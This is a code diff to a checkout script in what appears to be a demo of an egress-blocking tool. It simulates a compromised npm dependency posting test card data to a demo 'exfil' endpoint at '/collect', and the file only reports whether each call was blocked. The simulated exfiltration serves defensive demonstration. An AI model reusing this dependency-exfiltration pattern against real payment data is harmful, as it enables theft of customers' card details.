@@ -4,20 +4,34 @@
 // was compromised — try to post the card data to an attacker. Bulkhead decides each connection; this
 // file only reports what happened. Destinations come from DEMO_*_URL variables set by the demo.
 
+const analytics = require('analytics-lite');
+
+const PAYLOAD = { card: '4242 4242 4242 4242', amount: 1999 };
+
+function post(url) {
+  return fetch(url, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(PAYLOAD),
+    signal: AbortSignal.timeout(3000),
+  });
+}
+
 const DESTINATIONS = [
-  { label: 'charge card', variable: 'DEMO_PAYMENTS_URL', path: '/v1/charges' },
-  { label: 'fraud score', variable: 'DEMO_FRAUD_URL', path: '/v1/score' },
-  { label: 'compromised dependency', variable: 'DEMO_EXFIL_URL', path: '/collect' },
+  { label: 'charge card', variable: 'DEMO_PAYMENTS_URL', path: '/v1/charges', send: post },
+  { label: 'fraud score', variable: 'DEMO_FRAUD_URL', path: '/v1/score', send: post },
+  // The compromised dependency (node_modules/analytics-lite) opens this one itself.
+  {
+    label: 'compromised dependency',
+    variable: 'DEMO_EXFIL_URL',
+    path: '/collect',
+    send: (url) => analytics.track(url, PAYLOAD),
+  },
 ];
 
-async function attempt(url) {
+async function attempt(url, send) {
   try {
-    const response = await fetch(url, {
-      method: 'POST',
-      headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({ card: '4242 4242 4242 4242', amount: 1999 }),
-      signal: AbortSignal.timeout(3000),
-    });
+    const response = await send(url);
     await response.arrayBuffer();
     return { outcome: 'allowed', status: response.status };
   } catch (error) {
@@ -37,7 +51,7 @@ async function checkout(env = process.env) {
     const base = env[destination.variable];
     if (!base) continue;
     const url = new URL(destination.path, base);
-    results.push({ label: destination.label, host: url.hostname, ...(await attempt(url)) });
+    results.push({ label: destination.label, host: url.hostname, ...(await attempt(url, destination.send)) });
   }
   return results;
 }
